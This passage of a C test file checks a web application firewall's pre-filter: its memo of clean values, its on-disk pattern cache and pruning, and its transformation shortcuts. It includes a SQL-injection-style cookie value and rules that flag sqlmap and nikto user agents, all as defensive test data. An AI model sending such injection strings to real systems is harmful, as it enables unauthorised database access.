		{ "Host: a.example", "User-Agent: Mozilla/5.0 (X11)", "X-Attack: attack1", NULL },
		/* X-A: foo is not clean (32's first link): with bar it matches */
		{ "Host: a.example", "X-A: foo", NULL },
		/* MATCHED_VARS: "bzz" never matched ^a, "azz" did */
		{ "Host: a.example", "X-B: bzz", NULL },
		{ "Host: a.example", "X-B: azz", NULL },
		/* a capture: "k=open" */
		{ "Host: a.example", "X-C: k=closed", NULL },
		{ "Host: a.example", "X-C: k=open", NULL },
		/* the count is the same whether X-Count is clean or not */
		{ "Host: a.example", "X-Count: 7", NULL },
		{ "Host: a.example", "Cookie: q=1' or '1'='1", NULL },
	};
	static const char *const targets[] = { "/", "/?q=bar" };
	size_t n = sizeof(reqs) / sizeof(reqs[0]);
	int mismatches = 0;
	/* every request, every target, in turn, three rounds: the second
	 * round computes the memo's entries, the third uses them */
	for (int round = 0; round < 3; round++)
		for (size_t i = 0; i < n; i++)
			for (size_t t = 0; t < 2; t++) {
				bool a = scan_with(pf, sc, targets[t], reqs[i]);
				bool b = scan_with(pf, off, targets[t], reqs[i]);
				if (a != b) {
					fprintf(stderr, "  memo %d, without %d: %s %s\n", a, b, targets[t],
						reqs[i][1]);
					mismatches++;
				}
			}
	CHECK_EQ_INT(mismatches, 0);
	/* the verdicts themselves */
	CHECK(!scan_with(pf, sc, "/", reqs[0]));
	CHECK(scan_with(pf, sc, "/", reqs[1]));
	CHECK(scan_with(pf, sc, "/", reqs[2]));
	CHECK(!scan_with(pf, sc, "/", reqs[3]));
	CHECK(scan_with(pf, sc, "/?q=bar", reqs[3]));
	/* the pre-filter takes MATCHED_VARS as every header 33's first link
	 * reads, "bzz" among them (ModSecurity only has "a.example" there):
	 * the memo keeps that answer */
	CHECK(scan_with(pf, sc, "/", reqs[4]));
	CHECK(scan_with(pf, sc, "/", reqs[5]));
	CHECK(!scan_with(pf, sc, "/", reqs[6]));
	CHECK(scan_with(pf, sc, "/", reqs[7]));
	CHECK(scan_with(pf, sc, "/", reqs[8]));
	CHECK(scan_with(pf, sc, "/", reqs[9]));
	/* the memo was used: the benign UA, Accept, Cookie and its cookies */
	size_t puts, hits = waf_pf_memo_hits(sc, &puts);
	CHECK(hits >= 5);
	CHECK(puts > 0);
	CHECK_EQ_INT(waf_pf_memo_hits(off, NULL), 0);
	/* a clean value under another name is judged under that name */
	const char *ua_as_x[] = { "Host: a.example", "X-Attack: Mozilla/5.0 (X11)", NULL };
	const char *sq[] = { "Host: a.example", "User-Agent: SQLMAP/1.0", NULL };
	for (int k = 0; k < 3; k++) {
		CHECK(!scan_with(pf, sc, "/", ua_as_x));
		CHECK(scan_with(pf, sc, "/", sq));
	}
	waf_pf_scratch_free(off);
	waf_pf_scratch_free(sc);
	waf_pf_free(pf);
}

/* pf_cache.c's file names: 64 hex digits of a key, then suffix. */
static void cache_fname(char *out, size_t len, unsigned i, const char *suffix)
{
	snprintf(out, len, "%064x%s", i, suffix);
}

/* A file of size bytes in dir, last modified at mtime. */
static void put_aged(const char *dir, const char *name, size_t size, time_t mtime)
{
	char path[700];
	struct timespec ts[2] = { { mtime, 0 }, { mtime, 0 } };

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	FILE *f = fopen(path, "wb");
	CHECK(f != NULL);
	if (!f)
		return;
	for (size_t i = 0; i < size; i++)
		fputc('x', f);
	fclose(f);
	CHECK(utimensat(AT_FDCWD, path, ts, 0) == 0);
}

/* dir/name exists (a symlink counts itself, not its target). */
static bool in_dir(const char *dir, const char *name)
{
	char path[700];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return lstat(path, &st) == 0;
}

/* Sets the mtime of every cache file in dir to t; how many. */
static int age_cache_files(const char *dir, time_t t)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;
	struct timespec ts[2] = { { t, 0 }, { t, 0 } };

	if (!d)
		return 0;
	while ((e = readdir(d)))
		if (strlen(e->d_name) == 67 && !strcmp(e->d_name + 64, ".hs") &&
		    utimensat(dirfd(d), e->d_name, ts, AT_SYMLINK_NOFOLLOW) == 0)
			n++;
	closedir(d);
	return n;
}

/* The oldest mtime of a cache file in dir (0: none). */
static time_t oldest_cache_file(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	struct stat st;
	time_t old = 0;

	if (!d)
		return 0;
	while ((e = readdir(d)))
		if (strlen(e->d_name) == 67 && !strcmp(e->d_name + 64, ".hs") &&
		    fstatat(dirfd(d), e->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 &&
		    (!old || st.st_mtime < old))
			old = st.st_mtime;
	closedir(d);
	return old;
}

/* pf_cache.c: a second build with the same rules compiles nothing (from
 * memory, then from the directory after the memory is dropped), scans the
 * same, and a directory others can write is not used.  A hit in the
 * directory marks its file used (mtime), and writing a file prunes cache
 * files unused for PF_CACHE_MAX_AGE. */
TEST(test_db_cache)
{
	static const char conf[] =
		"SecRule ARGS \"@rx evil\\d+\" \"id:4,phase:2,block,t:none,t:lowercase\"\n"
		"SecRule REQUEST_HEADERS:User-Agent \"@pm sqlmap nikto\" \"id:5,phase:1,block,t:none\"\n"
		"SecRule ARGS \"@rx (?<=a)b\" \"id:6,phase:2,block\"\n";	/* Vectorscan rejects it */
	char dir[64], old[600] = "";
	size_t cached = 0;
	const char *prev = getenv("GATEHOUSE_WAF_CACHE");

	if (prev)
		snprintf(old, sizeof(old), "%s", prev);
	snprintf(dir, sizeof(dir), "/tmp/gh_waf_pf_cache_%d", (int)getpid());
	setenv("GATEHOUSE_WAF_CACHE", dir, 1);
	pf_cache_clear();
	/* a stale entry (another rule set's, unused for 40 days) */
	time_t now = time(NULL), long_ago = now - 40 * 86400;
	char stale[80];
	cache_fname(stale, sizeof(stale), 1, ".hs");
	CHECK(mkdir(dir, 0700) == 0);
	put_aged(dir, stale, 100, long_ago);

	struct waf_pf *a = small(conf, 1);
	CHECK(a != NULL);
	CHECK(a && waf_pf_compiles(a, &cached) > 0 && cached == 0);
	CHECK(!in_dir(dir, stale));	/* pruned when a's files were written */
	struct waf_pf *b = small(conf, 1);	/* memory */
	CHECK(b && waf_pf_compiles(b, &cached) == 0 && cached > 0);
	pf_cache_clear();
	CHECK(age_cache_files(dir, long_ago) > 0);
	struct waf_pf *c = small(conf, 1);	/* the directory */
	CHECK(c && waf_pf_compiles(c, &cached) == 0 && cached > 0);
	/* every file c read is marked used now */
	CHECK(oldest_cache_file(dir) > now - 86400);
	if (a && b && c) {
		CHECK(scan_get(c, "/?a=EVIL12", "x") && !scan_get(c, "/?a=good", "x"));
		CHECK(scan_get(c, "/", "sqlmap/1.5") && scan_get(c, "/?q=ab", "x"));
		CHECK_EQ_INT(waf_pf_patterns(a), waf_pf_patterns(c));
		CHECK_EQ_INT(waf_pf_fallbacks(a), waf_pf_fallbacks(c));
	}
	waf_pf_free(a);
	waf_pf_free(b);
	waf_pf_free(c);

	/* a directory others may write: compile, read nothing from it */
	pf_cache_clear();
	chmod(dir, 0777);
	struct waf_pf *d = small(conf, 1);
	CHECK(d && waf_pf_compiles(d, &cached) > 0 && cached == 0);
	waf_pf_free(d);
	pf_cache_clear();
	setenv("GATEHOUSE_WAF_CACHE", "off", 1);
	d = small(conf, 1);
	CHECK(d && waf_pf_compiles(d, &cached) > 0 && cached == 0);
	waf_pf_free(d);
	pf_cache_clear();

	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	CHECK_EQ_INT(system(cmd), 0);
	if (old[0])
		setenv("GATEHOUSE_WAF_CACHE", old, 1);
	else
		unsetenv("GATEHOUSE_WAF_CACHE");
}

/* pf_cache_prune(): cache files unused past the age go, then the least
 * recently used ones until the directory is within both bounds; the file
 * just written, other names, symlinks and directories stay. */
TEST(test_db_cache_prune)
{
	char dir[] = "/tmp/gh_waf_pf_prune_XXXXXX", name[80], keep[80], path[700], target[700];
	time_t now = time(NULL), day = 86400;

	CHECK(mkdtemp(dir) != NULL);
	/* ten cache files of 1000 bytes, 0 the least recently used */
	for (unsigned i = 0; i < 10; i++) {
		cache_fname(name, sizeof(name), i, ".hs");
		put_aged(dir, name, 1000, now - 1000 * (10 - (time_t)i));
	}
	cache_fname(keep, sizeof(keep), 0, ".hs");	/* "just written" */
	cache_fname(name, sizeof(name), 100, ".hs");
	put_aged(dir, name, 10, now - 40 * day);	/* past the age */
	cache_fname(name, sizeof(name), 200, ".hs.123.tmp");
	put_aged(dir, name, 10, now - 2 * day);		/* a writer's leftover */
	cache_fname(name, sizeof(name), 201, ".hs.124.tmp");
	put_aged(dir, name, 10, now);			/* being written */
	put_aged(dir, "notes.txt", 10, now - 40 * day);	/* not the cache's */
	put_aged(dir, "target", 10, now - 40 * day);
	snprintf(target, sizeof(target), "%s/target", dir);
	cache_fname(name, sizeof(name), 300, ".hs");
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	CHECK(symlink(target, path) == 0);
	struct timespec ts[2] = { { now - 40 * day, 0 }, { now - 40 * day, 0 } };
	CHECK(utimensat(AT_FDCWD, path, ts, AT_SYMLINK_NOFOLLOW) == 0);
	cache_fname(name, sizeof(name), 400, ".hs");
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	CHECK(mkdir(path, 0700) == 0);

	/* at most 6 files: the aged one, the leftover and 1..4 go */
	CHECK_EQ_INT(pf_cache_prune(dir, keep, now, 30 * day, 6, 1u << 30), 6);
	static const unsigned gone[] = { 100, 1, 2, 3, 4 }, kept[] = { 0, 5, 6, 7, 8, 9, 300, 400 };
	for (size_t i = 0; i < sizeof(gone) / sizeof(gone[0]); i++) {
		cache_fname(name, sizeof(name), gone[i], ".hs");
		CHECK(!in_dir(dir, name));
	}
	for (size_t i = 0; i < sizeof(kept) / sizeof(kept[0]); i++) {
		cache_fname(name, sizeof(name), kept[i], ".hs");
		CHECK(in_dir(dir, name));
	}
	cache_fname(name, sizeof(name), 200, ".hs.123.tmp");
	CHECK(!in_dir(dir, name));
	cache_fname(name, sizeof(name), 201, ".hs.124.tmp");
	CHECK(in_dir(dir, name));
	CHECK(in_dir(dir, "notes.txt") && in_dir(dir, "target"));

	/* at most 3500 bytes, nothing kept: 0, 5 and 6 go (oldest first) */
	CHECK_EQ_INT(pf_cache_prune(dir, NULL, now, 30 * day, 100, 3500), 3);
	for (unsigned i = 0; i < 10; i++) {
		cache_fname(name, sizeof(name), i, ".hs");
		CHECK(in_dir(dir, name) == (i >= 7));
	}
	/* within the bounds: nothing more */
	CHECK_EQ_INT(pf_cache_prune(dir, NULL, now, 30 * day, 3, 3000), 0);
	CHECK(in_dir(dir, "notes.txt") && in_dir(dir, "target"));

	char cmd[128];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	CHECK_EQ_INT(system(cmd), 0);
}

/* pf_tfn_identity() lets the scan skip a transformation: it must only say
 * "unchanged" when pf_tfn_apply() would give back the same bytes.  Random
 * strings over the bytes the transformations treat specially. */
TEST(test_tfn_identity)
{
	static const uint8_t alpha[] = "aZ09 \t\n\r\v\f/*()\\\"'^,;%+&#.:\x00\x80\xa0\xc2\xc3\xe2\xff-u";
	const size_t na = sizeof(alpha) - 1;
	struct pf_buf out = { 0 };
	uint64_t x = 88172645463325252ull;
	size_t said = 0, wrong = 0;

	for (int t = 0; t < T_OPAQUE; t++) {
		for (int n = 0; n < 20000; n++) {
			uint8_t in[12];
			x ^= x << 13;
			x ^= x >> 7;
			x ^= x << 17;
			size_t len = x % (sizeof(in) + 1);
			for (size_t i = 0; i < len; i++) {
				x ^= x << 13;
				x ^= x >> 7;
				x ^= x << 17;
				/* mostly one class of byte, so identities happen */
				in[i] = (x >> 32) % 4 ? alpha[x % 4] : alpha[(x >> 8) % na];
			}
			/* the byte classes' answer never says more than
			 * pf_tfn_identity() (and the scan trusts both) */
			bool by_cls = pf_tfn_identity_cls(t, pf_tfn_classes(in, len), in, len);
			if (!pf_tfn_identity(t, in, len)) {
				if (by_cls && wrong++ < 5)
					fprintf(stderr, "  tfn %d: classes said identity for %.*s\n", t,
						(int)len, (const char *)in);
				continue;
			}
			said++;
			if (pf_tfn_apply(t, in, len, &out) != 1 || out.len != len ||
			    (len && memcmp(out.p, in, len))) {
				if (wrong++ < 5)
					fprintf(stderr, "  tfn %d: identity said for %.*s, not so\n", t,
						(int)len, (const char *)in);
			}
		}
	}
	pf_buf_free(&out);
	CHECK(said > 1000);
	CHECK_EQ_INT(wrong, 0);
}

int main(void)
{
	RUN(test_tfn_identity);
	RUN(test_small_rule_set);
	RUN(test_decided_pass);
	RUN(test_regex_selectors);
	RUN(test_dotstar_far_in);
	RUN(test_clean_memo);
	RUN(test_db_cache);
	RUN(test_db_cache_prune);
	if (access(CRS_LOAD, R_OK) != 0) {
		printf("test_waf_pf: CRS tests skipped (%s not installed)\n", CRS_LOAD);
		return UNIT_SUMMARY("test_waf_pf");
	}
	RUN(test_build_errors);
	RUN(test_decided_pass_crs);
	RUN(test_against_modsecurity);
	return UNIT_SUMMARY("test_waf_pf");
}
